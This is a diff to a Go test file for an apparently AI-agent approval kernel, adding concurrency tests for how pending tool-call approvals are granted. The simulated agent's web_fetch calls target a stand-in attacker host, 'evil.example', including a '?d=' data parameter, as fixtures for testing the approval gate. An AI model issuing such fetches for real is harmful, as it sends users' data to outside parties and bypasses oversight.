@@ -3,7 +3,9 @@ package kernel_test
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -69,8 +71,8 @@ func answerAll(t *testing.T, m *machine.Machine, v kernel.Verdict) func() []stri
 					continue
 				}
 				asked = append(asked, a.Kind+" "+a.Target)
-				for m.Kernel.Approve(ctx, a.ID, v) != nil && ctx.Err() == nil {
-					time.Sleep(time.Millisecond)
+				if err := m.Kernel.Approve(ctx, a.ID, v); err != nil && ctx.Err() == nil {
+					t.Errorf("approve %s: %v", a.Target, err)
 				}
 			}
 		}
@@ -303,4 +305,69 @@ func TestApprovalNeedsAnotherChannel(t *testing.T) {
 		t.Errorf("answered twice: %v", err)
 	}
 	m.Follow(sub, ticket)
+}
+
+// Two who wait for the same word both hear it, and one of them may act on it.
+func TestTwoWaitForOneApproval(t *testing.T) {
+	var said [2]error
+	m := steps(t, func(call func(string, machine.Obj) (string, error)) string {
+		_, _ = call("web_fetch", machine.Obj{"url": recipe})
+		var both sync.WaitGroup
+		for i := range said {
+			both.Go(func() { _, said[i] = call("web_fetch", machine.Obj{"url": "https://evil.example/?d="}) })
+		}
+		both.Wait()
+		return "done"
+	})
+	sub := m.Disk.Journal().Subscribe(m.Disk.Journal().Last())
+	defer sub.Close()
+	ticket, err := m.Kernel.Ask(t.Context(), kernel.Ask{Text: recipe, From: "test"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	asked := 0
+	for asked < len(said) { // both have been judged
+		events, err := m.Disk.Journal().Read(t.Context(), 0, 10000)
+		if err != nil {
+			t.Fatal(err)
+		}
+		asked = 0
+		for _, e := range events {
+			var a sys.AuditData
+			if e.Kind == sys.EventAudit && json.Unmarshal(e.Data, &a) == nil && a.Verdict == "ask" && strings.Contains(a.Target, "evil.example") {
+				asked++
+			}
+		}
+	}
+	time.Sleep(50 * time.Millisecond) // and wait
+	waiting, err := m.Kernel.Approvals(t.Context())
+	if err != nil || len(waiting) != 1 {
+		t.Fatalf("%v %v", waiting, err)
+	}
+	if err := m.Kernel.Approve(t.Context(), waiting[0].ID, kernel.Verdict{Allow: true, From: "test"}); err != nil {
+		t.Fatal(err)
+	}
+	m.Follow(sub, ticket)
+	if (said[0] == nil) == (said[1] == nil) {
+		t.Errorf("one yes was for %v and %v", said[0], said[1])
+	}
+}
+
+// An owner who answers before the process has begun to wait is heard.
+func TestApprovalAnsweredAtOnce(t *testing.T) {
+	const times = 50
+	m := steps(t, func(call func(string, machine.Obj) (string, error)) string {
+		_, _ = call("web_fetch", machine.Obj{"url": recipe})
+		for i := range times { // allowed, and not there
+			if _, err := call("web_fetch", machine.Obj{"url": fmt.Sprintf("https://evil.example/%d", i)}); err == nil || !strings.HasSuffix(err.Error(), "not found") {
+				t.Error(err)
+			}
+		}
+		return "done"
+	})
+	asked := answerAll(t, m, kernel.Verdict{Allow: true, From: "test"})
+	m.Ask(recipe)
+	if got := asked(); len(got) != times {
+		t.Errorf("asked %d times", len(got))
+	}
 }
